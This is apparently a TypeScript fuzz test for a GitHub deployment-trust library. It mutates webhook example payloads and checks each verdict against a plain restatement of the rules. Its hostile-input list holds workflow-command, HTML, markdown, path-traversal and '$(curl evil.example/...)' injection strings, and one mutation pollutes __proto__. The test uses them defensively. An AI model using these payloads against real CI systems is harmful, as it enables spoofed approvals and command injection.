/**
 * Ten thousand events, made from GitHub's own examples by deleting, nulling, retyping and swapping fields and by putting
 * hostile text into them. Whatever comes out is held against a second, naive statement of the rules.
 */
import { createRequire } from 'node:module';
import { decide, type Oracle, type RunFacts, type Verdict } from '@guarded-deploy/access';
import { generator } from '@guarded-deploy/github-simulator/faults';
import { expect, test } from '@jest/globals';
import { decisionLog, decisionSummary } from '../src/summary.ts';

const CASES = 10_000;
/** A few seconds; another seed gives other events: FUZZ_SEED=7. */
const SEED = Number(process.env['FUZZ_SEED'] ?? 20261122);
const random = generator(SEED);
const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
interface Example {
  readonly name: string;
  readonly examples: readonly Json[];
}

const examples = createRequire(import.meta.url)('@octokit/webhooks-examples') as readonly Example[];
/** The events with rules of their own come up more often than the dozens without. */
const RULED = [
  'push',
  'pull_request',
  'pull_request',
  'pull_request_target',
  'pull_request_review',
  'pull_request_review_comment',
  'issue_comment',
  'workflow_run',
  'workflow_dispatch',
  'repository_dispatch',
  'merge_group',
  'release',
  'schedule',
];

const MARK = 'zzhostilezz';
const HOSTILE = [
  `${MARK}\n::error::owned`,
  `${MARK}\r\n::set-output name=decision::trusted`,
  `##[error]${MARK}`,
  `</code></details><img src=x onerror=${MARK}>`,
  `| ${MARK} | [click](https://evil.example) | @everyone`,
  `\`\`\`\n${MARK}\n\`\`\``,
  `$(curl evil.example/${MARK})`,
  `\${{ secrets.${MARK} }}`,
  `\u202e${MARK}\u0000`,
  `../../${MARK}`,
  'refs/heads/master',
  'Codertocat',
  'dependabot[bot]',
  'trusted',
  '0'.repeat(40),
  'a'.repeat(40),
  'A'.repeat(40),
  'x'.repeat(5000),
];

type Path = readonly (string | number)[];

function pathsOf(value: Json, prefix: Path = [], into: Path[] = []): Path[] {
  if (typeof value !== 'object' || value === null) return into;
  for (const key of Array.isArray(value) ? value.keys() : Object.keys(value)) {
    const path = [...prefix, key];
    into.push(path);
    pathsOf((value as Record<string | number, Json>)[key]!, path, into);
  }
  return into;
}

const DECISIVE =
  /sender|actor|user|owner|login|^id$|type|sha|after|ref|repo|head|base|deleted|action|commit|number|pull_request|workflow_run|merge_group|comment/;

/** What a decision shows or asks for. */
const NAMES = [
  'ref',
  'sender',
  'sender.login',
  'sender.id',
  'pull_request.user.login',
  'pull_request.head.ref',
  'pull_request.head.sha',
  'pull_request.head.repo.id',
  'pull_request.head.repo.full_name',
  'pull_request.head.repo.owner.login',
  'workflow_run.head_branch',
  'workflow_run.head_sha',
  'merge_group.head_ref',
  'comment.body',
];

function parentOf(root: Json, path: Path): Record<string | number, Json> {
  let current = root as Record<string | number, Json>;
  for (const key of path.slice(0, -1)) current = current[key] as Record<string | number, Json>;
  return current;
}

const get = (root: Json, path: Path) => parentOf(root, path)[path.at(-1)!]!;
const MUTATIONS = ['delete', 'null', 'retype', 'swap', 'hostile', 'graft', 'prototype'] as const;

function mutate(root: Json, kind: (typeof MUTATIONS)[number]): void {
  const all = pathsOf(root);
  const decisive = all.filter(path => DECISIVE.test(String(path.at(-1))));
  const named = all.filter(path => NAMES.includes(path.join('.')));
  const choose = () => {
    const dice = random();
    return pick(dice < 0.1 && named.length > 0 ? named : dice < 0.8 && decisive.length > 0 ? decisive : all);
  };
  if (all.length === 0) return;
  const path = choose();
  const parent = parentOf(root, path);
  const key = path.at(-1)!;
  switch (kind) {
    case 'delete':
      if (Array.isArray(parent)) parent.splice(Number(key), 1);
      else delete parent[key];
      return;
    case 'null':
      parent[key] = null;
      return;
    case 'retype': {
      const value = parent[key]!;
      parent[key] = pick<Json>([
        String(value),
        Number.MAX_SAFE_INTEGER,
        -1,
        1.5,
        0,
        true,
        false,
        [],
        [value],
        {},
        { login: value },
        typeof value === 'string' ? Number(value) || 7 : 'text',
      ]);
      return;
    }
    case 'swap': {
      const other = choose();
      // A value must not end up inside itself.
      const [long, short] = path.length > other.length ? [path, other] : [other, path];
      if (short.every((part, index) => part === long[index])) return;
      const [one, two] = [structuredClone(get(root, path)), structuredClone(get(root, other))];
      parentOf(root, path)[key] = two;
      parentOf(root, other)[other.at(-1)!] = one;
      return;
    }
    case 'hostile':
      parent[key] = pick(HOSTILE);
      return;
    case 'graft': {
      const donor = structuredClone(pick(pick(examples).examples));
      const from = pathsOf(donor).filter(candidate => candidate.at(-1) === key);
      if (from.length > 0) parent[key] = get(donor, pick(from));
      return;
    }
    case 'prototype':
      Object.defineProperty(parent, '__proto__', {
        value: { sender: { login: 'Codertocat', id: 21031067 }, deleted: false },
        enumerable: true,
        configurable: true,
        writable: true,
      });
  }
}

/** Who may write, for one case: login in lower case → id and permission. Everybody else has read with an unknown id. */
type World = ReadonlyMap<string, { id: number; permission: 'none' | 'read' | 'write' | 'admin' }>;

function peopleIn(value: Json, into: Map<string, number> = new Map()): Map<string, number> {
  if (typeof value !== 'object' || value === null) return into;
  if (!Array.isArray(value) && typeof value['login'] === 'string' && typeof value['id'] === 'number')
    into.set(value['login'].toLowerCase(), value['id']);
  for (const child of Object.values(value)) if (typeof child === 'object') peopleIn(child, into);
  return into;
}

function object(value: unknown, ...path: string[]): unknown {
  let current = value;
  for (const key of path) {
    if (current === null || current === undefined || !Object.hasOwn(Object(current), key)) return undefined;
    current = (current as Record<string, unknown>)[key];
  }
  return current;
}

/** The rules once more, as plainly as possible: whether `trusted` may come out at all, and for which commit. */
function mayBeTrusted(facts: RunFacts, world: World): ReadonlySet<string> {
  const nothing = new Set<string>();
  const p = facts.payload;
  const isTrusted = (account: unknown) => {
    const login = object(account, 'login');
    const id = object(account, 'id');
    if (typeof login !== 'string') return false;
    const rights = (known: { permission: string } | undefined) =>
      known !== undefined && ['write', 'admin'].includes(known.permission);
    // An id says who it is, whatever the name beside it; only without one the name has to do.
    return typeof id === 'number' && id > 0 && Number.isSafeInteger(id)
      ? [...world.values()].some(known => known.id === id && rights(known))
      : rights(world.get(login.toLowerCase()));
  };
  if (facts.eventName === 'schedule') return new Set([facts.sha]);
  if (!world.has(facts.actor.toLowerCase()) || !isTrusted({ login: facts.actor })) return nothing;
  if (!isTrusted(object(p, 'sender'))) return nothing;
  if (typeof object(p, 'repository', 'id') !== 'number') return nothing;
  const isPull = facts.eventName.startsWith('pull_request');
  if (isPull) {
    const pull = object(p, 'pull_request');
    if (!isTrusted(object(pull, 'user'))) return nothing;
    const head = object(pull, 'head', 'repo', 'id');
    const base = object(pull, 'base', 'repo', 'id');
    if (typeof head !== 'number' || typeof base !== 'number') return nothing;
    if (base !== object(p, 'repository', 'id')) return nothing;
    if (head !== base) {
      if (!isTrusted(object(pull, 'head', 'repo', 'owner'))) return nothing;
      // Nobody in this fuzz can be proven to have pushed, so only these two say who did.
      if (!['opened', 'synchronize'].includes(String(object(p, 'action')))) return nothing;
      if (facts.eventName.startsWith('pull_request_review')) return nothing;
    }
    if (facts.eventName === 'pull_request_review') {
      if (!isTrusted(object(p, 'review', 'user'))) return nothing;
      if (object(p, 'review', 'commit_id') !== object(pull, 'head', 'sha')) return nothing;
    }
    if (facts.eventName === 'pull_request_review_comment' && !isTrusted(object(p, 'comment', 'user')))
      return nothing;
    return new Set([String(object(pull, 'head', 'sha'))]);
  }
  switch (facts.eventName) {
    case 'push':
      if (object(p, 'deleted') === true) return nothing;
      return String(object(p, 'ref')).startsWith('refs/tags/')
        ? new Set([facts.sha])
        : object(p, 'after') === facts.sha && object(p, 'ref') === facts.ref
          ? new Set([facts.sha])
          : nothing;
    case 'workflow_dispatch':
    case 'repository_dispatch':
    case 'release':
      return new Set([facts.sha]);
    case 'workflow_run': {
      const run = object(p, 'workflow_run');
      if (object(run, 'event') !== 'schedule') {
        if (!isTrusted(object(run, 'actor')) || !isTrusted(object(run, 'triggering_actor'))) return nothing;
      }
      if (object(run, 'head_repository', 'id') !== object(p, 'repository', 'id')) return nothing;
      return new Set([String(object(run, 'head_sha'))]);
    }
    default:
      // merge_group and issue_comment need answers that this world never gives.
      return nothing;
  }
}

test(`${CASES} hostile events`, async () => {
  const ruled = new Map(examples.map(example => [example.name, example.examples]));
  ruled.set('pull_request_target', ruled.get('pull_request')!);
  ruled.set('schedule', [{ schedule: '0 3 * * *' }]);
  const decisions: Record<string, number> = { trusted: 0, approval: 0, deny: 0 };
  const reasons: Record<string, number> = {};
  const mutations: Record<string, number> = {};
  let trustedButMutated = 0;
  let marksInSummaries = 0;
  const eventsSeen = new Set<string>();

  for (let index = 0; index < CASES; index += 1) {
    const eventName = random() < 0.85 ? pick(RULED) : pick(examples).name;
    const original = structuredClone(pick(ruled.get(eventName)!));
    eventsSeen.add(eventName);
    const people = peopleIn(original);
    const world: World = new Map(
      [...people].map(([login, id]) => [
        login,
        // A fifth is somebody else under the same name, a third has too little.
        {
          id: random() < 0.1 ? id + 1 : id,
          permission: random() < 0.75 ? pick(['write', 'admin'] as const) : pick(['none', 'read'] as const),
        },
      ]),
    );
    // What the runner says cannot be shaped by the event's author, so it is taken before the mutations.
    const sender = object(original, 'sender');
    const facts = {
      eventName,
      repository: String(object(original, 'repository', 'full_name') ?? 'acme/portal'),
      repositoryId: String(object(original, 'repository', 'id') ?? ''),
      sha: (eventName === 'push' &&
      /^[0-9a-f]{40}$/.test(String(object(original, 'after'))) &&
      !/^0+$/.test(String(object(original, 'after')))
        ? object(original, 'after')
        : 'd4'.repeat(20)) as string,
      ref: (eventName === 'push' ? object(original, 'ref') : 'refs/heads/master') as string,
      actor: String(object(sender, 'login') ?? ''),
      actorId: String(object(sender, 'id') ?? ''),
      triggeringActor: String(object(sender, 'login') ?? ''),
    };
    const payload = structuredClone(original);
    // The examples of comments are on issues; those on pull requests have this field.
    if (eventName === 'issue_comment' && random() < 0.7)
      (object(payload, 'issue') as Record<string, Json>)['pull_request'] = { url: 'https://api.github.com/' };
    const strength = Math.floor(random() * 5);
    for (let step = 0; step < strength; step += 1) {
      const kind = pick(MUTATIONS);
      mutations[kind] = (mutations[kind] ?? 0) + 1;
      mutate(payload, kind);
    }
    const asked: string[] = [];
    const oracle: Oracle = {
      permission: async login => {
        asked.push(login);
        const known = world.get(login.toLowerCase());
        if (known === undefined) return { kind: 'unknown', reason: 'person-not-found' };
        return { kind: 'known', permission: known.permission, role: known.permission, login, id: known.id };
      },
      // The pull request that the API knows is the hostile one as well.
      pullRequest: async () => ({
        kind: 'known',
        value: pick<Json>([payload, (object(payload, 'pull_request') ?? {}) as Json, null]),
      }),
      pusher: async () => ({ kind: 'known', value: undefined }),
      requiredReviews: async () => ({ kind: 'known', value: 0 }),
    };
    const verdict: Verdict = await decide(
      { ...facts, payload },
      { commit: '', pullRequest: undefined, pin: 'head' },
      { minimum: 'write', trustedApps: [] },
      oracle,
    );
    decisions[verdict.decision] = decisions[verdict.decision]! + 1;
    reasons[verdict.reason] = (reasons[verdict.reason] ?? 0) + 1;
    const context = `case ${index} of seed ${SEED}: ${eventName} → ${JSON.stringify(verdict)}`;
    if (verdict.decision === 'trusted') {
      if (strength > 0) trustedButMutated += 1;
      const allowed = mayBeTrusted({ ...facts, payload }, world);
      if (!allowed.has(verdict.commit!.sha))
        throw new Error(
          `trusted against the rules, ${context}\n${JSON.stringify({ facts, sender: object(payload, 'sender'), world: [...world] })}`,
        );
    }
    if (verdict.decision !== 'deny' && !/^[0-9a-f]{40}$/.test(verdict.commit?.sha ?? ''))
      throw new Error(`no full SHA, ${context}`);
    if (new Set(asked.map(login => login.toLowerCase())).size !== asked.length)
      throw new Error(`asked twice, ${context}`);
    const summary = decisionSummary(verdict, {
      serverUrl: 'https://github.com',
      repository: facts.repository,
      runId: 1,
      environment: 'test-external',
      minimum: 'write',
    });
    if (summary.includes(MARK)) marksInSummaries += 1;
    for (const line of decisionLog(verdict)) {
      if (line.includes(MARK) || /[\r\n\u0000]/.test(line))
        throw new Error(`hostile text in the log, ${context}`);
    }
    if (
      /<img|<\/details>|^\s*::|##\[|\]\(https:\/\/evil|(^|[^&#\w])@everyone|\$\{\{|\u202e|\u0000/m.test(
        summary,
      )
    )
      throw new Error(`hostile text in the summary unescaped, ${context}\n${summary}`);
  }

  console.log(
    [
      `${CASES} events of ${eventsSeen.size} kinds, seed ${SEED}`,
      `decisions: ${JSON.stringify(decisions)}; ${trustedButMutated} trusted in spite of (harmless) mutations`,
      `mutations: ${JSON.stringify(mutations)}`,
      `reasons: ${JSON.stringify(reasons)}`,
      `hostile text shown escaped in ${marksInSummaries} summaries; crashes: 0; trusted against the rules: 0`,
    ].join('\n'),
  );
  // A fuzz in which nothing is ever trusted, or nothing hostile is ever shown, proves nothing.
  expect(decisions['trusted']).toBeGreaterThan(300);
  expect(trustedButMutated).toBeGreaterThan(50);
  expect(marksInSummaries).toBeGreaterThan(3);
  expect(decisions['trusted']! + decisions['approval']! + decisions['deny']!).toBe(CASES);
}, 120_000);
